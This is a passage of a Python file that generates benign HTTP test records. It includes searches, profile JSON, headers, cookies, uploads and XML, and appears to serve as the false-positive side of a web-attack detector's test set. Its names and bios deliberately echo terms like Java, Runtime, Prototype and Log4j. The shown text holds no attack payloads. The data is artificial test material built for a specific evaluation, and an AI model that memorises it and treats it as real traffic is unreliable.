    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240305.019)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "curl/8.5.0",
    "PostmanRuntime/7.37.0",
]
REFERERS = [
    "https://app.example.com/admin/users?page=2",
    "https://www.google.com/",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://nodejs.org/api/child_process.html",
    "https://github.com/acme/api/pull/412",
    "https://app.slack.com/client/T061EG9R6/C0123456789",
    "https://stackoverflow.com/questions/tagged/prototype",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://www.example.com/search?q=java+runtime",
    "https://localhost:3000/settings/profile",
    "http://localhost:8080/admin/",
    "https://intranet.example.com/wiki/Log4j_Upgrade",
]
COOKIES = [
    "session=9f2c1e7a4b; theme=dark",
    "session=9f2c1e7a4b; lang=en-GB; tz=Europe%2FBerlin",
    "JSESSIONID=A1B2C3D4E5F6A7B8C9D0E1F2A3B4C5D6; Path=/",
    "_ga=GA1.2.1234567890.1719000000; _gid=GA1.2.987654321.1719000000",
    "rememberMe=deleteMe; session=9f2c1e7a4b",
    "prefs=%7B%22theme%22%3A%22dark%22%2C%22density%22%3A%22compact%22%7D",
    "template=classic; font=serif",
    "connect.sid=s%3AQe4f0v9Nz8Lx2w.abcDEF123ghiJKL456mnoPQR789",
    "_rails_session=bXktc2Vzc2lvbi1kYXRh--0a1b2c3d4e5f; locale=de",
    "XSRF-TOKEN=eyJpdiI6IjEyMyJ9; laravel_session=eyJpdiI6IjQ1NiJ9",
]
UPLOADS = [
    "report-q3.pdf", "avatar.png", "Java_Cheat_Sheet.pdf", "jsp-migration-plan.docx", "runtime-logs.txt",
    "my.profile.photo.jpeg", "class-photo-2019.jpg", "JavaScript notes.md", "templates.zip",
    "ruby_birthday.heic", "perl-beads.png", "Prototype v2 (final).pptx", "process-map.vsdx",
    "data export 2024-06.csv", "constructor-contract.pdf", "handlebars.jpg", "system-design.png",
    "résumé.pdf", "IMG_0127.JPG", "scan 169.tiff",
]
DATA_AVATARS = [
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
    "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7",
    "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0aHBwg",
    "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='8' height='8'/>",
]
XML_PROFILES = [
    ("Ruby Chen", "Java developer, Berlin"),
    ("Perl Jensen", "Process engineer at Constructor Ltd."),
    ("Ann O'Neil", "Template designer; loves {{ mustache }} syntax"),
    ("Jon Smith", "Runtime metrics and system status"),
    ("Mako Tanaka", "Marine biologist, 169 Elm Road"),
    ("Zoë Brown", "Data & metadata librarian"),
]

PROFILES = [
    ("Ruby Chen", "Java Developer", "Constructor Ltd.", "127 Main Street, Springfield"),
    ("Perl Jensen", "Process Engineer", "Velocity Partners", "169 Elm Road, Leeds"),
    ("Java Ortiz", "System Administrator", "Tornado Alley Cafe", "10 Runtime Road, Austin"),
    ("Mako Tanaka", "Data Scientist", "Pebble Beach Resorts", "1-2-3 Shibuya, Tokyo"),
    ("Jon Constructor", "Cloud Architect", "Metadata Labs", "4 Prototype Lane, Dublin"),
    ("Anne-Marie Smarty", "Template Designer", "Smarty Pants Kids Store", "22 Rue de la Paix, Paris"),
    ("Siobhán O'Neil", "Exec Assistant", "Handlebars Bike Shop", "8 Loader Street, Cork"),
    ("José Ruiz", "Node.js Backend Engineer", "Jinja Garden", "Calle Mayor 12, Madrid"),
    ("Zoë Brown", "Metadata Librarian", "Freemarker Farms", "Farm Lane 3, York"),
    ("Björn Twig", "Spring Boot Engineer", "Thyme Leaf Bistro", "Kungsgatan 44, Stockholm"),
    ("Pug Lee", "Ruby on Rails Contractor", "Razor Sharp Barbers", "77 Harbour Road, Sydney"),
    ("Ember Erb", "Perl Maintainer", "Nunjucks Studio", "5 Canal Street, Manchester"),
    ("Ann Lee", "Security Engineer (Log4j response team)", "Acme", "100 Mission Street, San Francisco"),
    ("Li Wei", "Java Serialization expert, retired", "Acme", "Exec Tower, 12th floor"),
    ("Kim Park", "Class teacher, class of 2019", "Springfield High", "169 School Road"),
    ("Omar Haddad", "Runtime performance lead", "Global Process Inc.", "PO Box 127"),
    ("Grace Hopper Jr.", "Compiler and loader internals", "Acme", "1 Infinite Loop"),
    ("Ravi Kumar", "Site reliability (while on call: pager)", "Acme", "Flat 4B, 10 Data Street"),
    ("Eva Novak", "Prototype pollution researcher", "Acme Labs", "Vinohradská 12, Prague"),
    ("Tom O'Hara", "Apache Tomcat administrator", "Acme", "Unit 0177, Dock Road"),
]


def _benign_records() -> Iterator[dict[str, Any]]:
    for q in SEARCHES:
        yield _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", q)])
        yield _get(_query("/api/users", [("q", q), ("page", "1")]))


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(LINKS, PROSE, NAME, n)
    n = yield from numbered(_benign_records(), f"{NAME}-search", n, "mixed")
    tpl = (_json("/api/users/42/settings", {"notifications": {"email": {"template": t, "enabled": True}}})
           for t in TEMPLATES)
    n = yield from numbered(tpl, f"{NAME}-template", n, "json")
    tpl_forms = (_form("/admin/settings/templates", [("csrf_token", "t0k3n"), ("subject", "Weekly digest"),
                                                     ("body", t)]) for t in TEMPLATES)
    n = yield from numbered(tpl_forms, f"{NAME}-template", n, "form")
    people = []
    for name, title, company, address in PROFILES:
        people.append(_json("/api/users", {"name": name, "title": title, "company": company,
                                           "address": {"street": address, "country": "XX"}}))
        people.append(_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", f"{name} {company}")]))
        people.append(_get(_query("/api/users", [("company", company), ("title", title)])))
    n = yield from numbered(people, f"{NAME}-profile", n, "mixed")
    heads = [{**_get("/api/users?page=1"), "headers": _headers(ua=ua)} for ua in CLIENT_UAS]
    heads += [{**_get("/api/users?page=1"), "headers": _headers({"Referer": ref})} for ref in REFERERS]
    heads += [{**_get("/api/users/42"), "headers": _headers({"Cookie": c})} for c in COOKIES]
    n = yield from numbered(heads, f"{NAME}-header", n, "header")
    ups = (_multipart("/api/users/42/avatar", [("caption", None, f"my file {k}"), ("avatar", f, "PNGDATA")])
           for k, f in enumerate(UPLOADS))
    n = yield from numbered(ups, f"{NAME}-upload", n, "multipart")
    avatars = (_json("/api/users/42", {"name": "Ann", "avatar_url": a}) for a in DATA_AVATARS)
    n = yield from numbered(avatars, f"{NAME}-avatar", n, "json")
    xml_docs = (_post("/api/users", f'<?xml version="1.0" encoding="UTF-8"?>\n<user><name>{escape(nm)}</name>'
                      f"<bio>{escape(bio)}</bio></user>", "application/xml") for nm, bio in XML_PROFILES)
    yield from numbered(xml_docs, f"{NAME}-xml", n, "xml")


if __name__ == "__main__":
    print_records(attacks(), benign())
